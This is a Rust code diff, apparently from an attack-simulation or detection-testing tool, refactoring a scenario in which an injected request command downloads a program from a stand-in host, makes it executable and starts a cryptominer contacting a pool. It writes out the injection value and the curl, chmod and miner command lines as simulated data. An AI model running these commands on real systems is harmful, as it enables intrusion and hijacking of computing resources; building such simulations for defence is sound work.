@@ -131,32 +131,33 @@ pub(super) fn escape_to_registry(play: &mut Play<'_>) {
 /// A command in a request fetches a program that mines.
 pub(super) fn miner(play: &mut Play<'_>) {
     let Some(pod) = play.target() else { return };
+    let (path, url) = (format!("/tmp/.x{}", play.id.0), "http://evil.example/x");
     let exploit = play.step("command in a request", None);
-    let shell =
-        play.exploit(&pod, "/cart?item=%60curl%60", "curl -o /tmp/.x http://evil.example/x");
-    let host = SocketAddr::new(IpAddr::V4(Ipv4Addr::new(185, 10, 68, 5)), 80);
+    let command = format!("curl -o {path} {url}");
+    let shell = play.exploit(&pod, "/cart?item=%60curl%60", &command);
     let fetched = play.step("program fetched", Some(exploit));
-    let at = play.then(100 * MS);
-    let curl = play.world.run(at, shell, &["curl", "-o", "/tmp/.x", "http://evil.example/x"]);
+    let (at, host) = (play.then(100 * MS), play.client());
+    let curl = play.world.run(at, shell, &["curl", "-o", &path, url]);
     play.world.connect(at + 5 * MS, curl, host);
-    play.world.open(at + 9 * MS, curl, "/tmp/.x", WRITE);
+    play.world.open(at + 9 * MS, curl, &path, WRITE);
     play.world.stop(at + 50 * MS, curl);
     let raised = play.step("program made executable", Some(fetched));
     let at = play.then(100 * MS);
-    let chmod = play.world.run(at, shell, &["chmod", "+x", "/tmp/.x"]);
-    play.world.make_executable(at + MS, chmod, "/tmp/.x");
+    let chmod = play.world.run(at, shell, &["chmod", "+x", &path]);
+    play.world.make_executable(at + MS, chmod, &path);
     play.world.stop(at + 2 * MS, chmod);
     let started = play.step("program started", Some(raised));
     let at = play.then(100 * MS);
-    let argv: &[&str] = &["/tmp/.x"];
+    let argv: &[&str] = &[&path];
     let dropped = play.world.start(at, shell, Program { argv, is_dropped: true, tty: 0 });
     let mined = play.step("miner started", Some(started));
     let at = play.then(100 * MS);
-    let argv: &[&str] = &["/tmp/kdevtmpfsi", "-o", "stratum+tcp://pool.example:3333"];
+    let argv: &[&str] = &[&path, "-o", "stratum+tcp://pool.example:3333"];
     let miner = play.world.start(at, dropped, Program { argv, is_dropped: true, tty: 0 });
     play.step("pool contacted", Some(mined));
     let at = play.then(100 * MS);
-    play.world.connect(at, miner, SocketAddr::new(IpAddr::V4(Ipv4Addr::new(51, 15, 1, 9)), 3333));
+    let pool = SocketAddr::new(IpAddr::V4(Ipv4Addr::new(51, 15, 1, 9)), 3333);
+    play.world.connect(at, miner, pool);
 }
 
 /// A script is uploaded, runs commands, and sends data out.
@@ -196,6 +197,8 @@ fn command(play: &mut Play<'_>, path: &str, argv: &[&str]) {
     let ask = Ask { method: "POST", target: path, body: &body, ..Ask::default() };
     let http = play.world.asked(at, pod.server, client, ask);
     let line = argv.join(" ");
+    // Interpreters open the script anew for each request.
+    play.world.open(at + MS, pod.server, &format!("/var/www{path}"), 0);
     let shell = play.world.run(at + 2 * MS, pod.server, &["/bin/sh", "-c", &line]);
     let program = play.world.run(at + 5 * MS, shell, argv);
     if argv.first() == Some(&"cat") {
